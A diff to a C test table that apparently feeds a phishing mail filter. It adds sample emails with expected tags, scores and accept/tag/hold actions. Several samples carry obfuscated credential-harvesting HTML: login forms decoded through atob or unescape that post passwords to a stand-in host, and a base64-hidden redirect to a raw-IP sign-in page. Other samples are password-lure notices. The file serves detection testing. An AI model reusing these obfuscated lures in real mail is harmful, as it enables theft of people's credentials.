@@ -532,6 +532,68 @@ static const struct {
 	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
 	 "パスワードを変更しました。お心当たりがない場合はサポートまでご連絡ください。https://www.service.example/\r\n",
 	 "", 0, OM_ACT_ACCEPT},
+	/* Third round: forms the second round missed. */
+	{"attached page writing its login form from base64: tag", "billing@invoice-view.example",
+	 "From: billing@invoice-view.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: document\r\n"
+	 "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
+	 "--b\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n"
+	 "--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=doc.html\r\n\r\n"
+	 "<html><body><script>document.write(atob(\"PGZvcm0gbWV0aG9kPSJwb3N0IiBhY3Rpb249Imh0dHBzOi8vdmlldy1kb2MtbG9naW4uZXhhbXBsZS9wIj48aW5wdXQgdHlwZT0icGFzc3dvcmQiIG5hbWU9InAiPjwvZm9ybT4=\"));</script></body></html>\r\n--b--\r\n",
+	 "attack.credential_request", 2, OM_ACT_TAG},
+	{"HTML body writing a login form through unescape: tag", "billing@invoice-view.example",
+	 "From: billing@invoice-view.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: document\r\n"
+	 "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
+	 "<html><body><p>Your document is ready.</p><script>document.write(unescape('%3C%66%6F%72%6D%20%6D%65%74%68%6F%64%3D%22%70%6F%73%74%22%20%61%63%74%69%6F%6E%3D%22%68%74%74%70%73%3A%2F%2F%76%69%65%77%2D%64%6F%63%2D%6C%6F%67%69%6E%2E%65%78%61%6D%70%6C%65%2F%70%22%3E%3C%69%6E%70%75%74%20%74%79%70%65%3D%22%70%61%73%73%77%6F%72%64%22%20%6E%61%6D%65%3D%22%70%22%3E%3C%2F%66%6F%72%6D%3E'))</script></body></html>\r\n",
+	 "attack.credential_request", 2, OM_ACT_TAG},
+	{"attached page sending the reader to a decoded raw IP: hold", "billing@invoice-view.example",
+	 "From: billing@invoice-view.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: document\r\n"
+	 "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
+	 "--b\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n"
+	 "--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=doc.htm\r\n\r\n"
+	 "<script>window.location.href = atob('aHR0cDovLzIwMy4wLjExMy43Nzo4MDgwL293YS8=');</script>\r\n--b--\r\n",
+	 "attack.credential_request attack.lookalike_url", 4, OM_ACT_HOLD},
+	{"newsletter body with the analytics snippet (a guard): nothing", "news@shop-news.example",
+	 "From: news@shop-news.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: news\r\n"
+	 "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
+	 "<html><body><p>Spring sale.</p><script>var gaJsHost = ((\"https:\" == document.location.protocol) ? \"https://ssl.\" : \"http://www.\");"
+	 "document.write(unescape(\"%3Cscript src='\" + gaJsHost + \"google-analytics.com/ga.js'%3E%3C/script%3E\"));</script>"
+	 "<a href=\"https://click.shop-news.example/t?u=1\">Shop now</a></body></html>\r\n",
+	 "", 0, OM_ACT_ACCEPT},
+	{"English quota notice, raw IP without a scheme, with a path: hold", "helpdesk@mail-admin-desk.example",
+	 "From: helpdesk@mail-admin-desk.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: Mailbox notice\r\n"
+	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
+	 "Your email storage is 98% full. Sign in at 203.0.113.9/owa/quota to increase your mailbox storage.\r\n",
+	 "attack.credential_request attack.lookalike_url attack.theme", 5, OM_ACT_HOLD},
+	{"English quota notice, IPv6 literal with a port: tag", "helpdesk@mail-admin-desk.example",
+	 "From: helpdesk@mail-admin-desk.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: Mailbox notice\r\n"
+	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
+	 "Your mailbox is almost full: http://[2001:db8::25]:8443/owa\r\n",
+	 "attack.lookalike_url attack.theme", 3, OM_ACT_TAG},
+	{"network and version numbers (a guard): nothing", "noc@isp-partner.example",
+	 "From: noc@isp-partner.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: maintenance\r\n"
+	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
+	 "The range 198.51.100.0/24 moves on Sunday; firmware 10.2.3.4 is required. Host 192.0.2.1 stays.\r\n",
+	 "", 0, OM_ACT_ACCEPT},
+	{"courier notice asking for the mailbox password: tag", "notice@parcel-desk.example",
+	 "From: notice@parcel-desk.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: Shipment notice\r\n"
+	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
+	 "Your package is on hold. Sign in with your email password to release the parcel: https://parcel-desk.example/r\r\n",
+	 "attack.credential_request attack.theme", 3, OM_ACT_TAG},
+	{"shop notice: delivery address to change after signing in: tag", "info@shop-notice.example",
+	 "From: info@shop-notice.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: notice\r\n"
+	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
+	 "ご注文商品の配送先の変更が必要です。マイページにログインのうえ、お届け先をご確認ください。https://shop-notice.example/my\r\n",
+	 "attack.credential_request attack.theme", 3, OM_ACT_TAG},
+	{"enquiry in unnatural Japanese with one simplified form: tag", "sales@global-trade-co.example",
+	 "From: sales@global-trade-co.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: notice\r\n"
+	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
+	 "はじめまして。貴社の製品にとても興味があります。产品の価格を教えてください。よろしくお願いします。\r\n",
+	 "attack.non_japanese_kanji attack.theme", 3, OM_ACT_TAG},
+	{"the same enquiry from a listed partner: theme only", "liu@dongfang-travel.example",
+	 "From: liu@dongfang-travel.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: notice\r\n"
+	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
+	 "はじめまして。貴社の製品にとても興味があります。产品の価格を教えてください。よろしくお願いします。\r\n",
+	 "attack.theme", 1, OM_ACT_ACCEPT},
 	{"kanji-heavy Japanese terms with few kana: nothing", "info@center.example",
 	 "From: info@center.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: =?UTF-8?B?57SE5qy+?=\r\n"
 	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
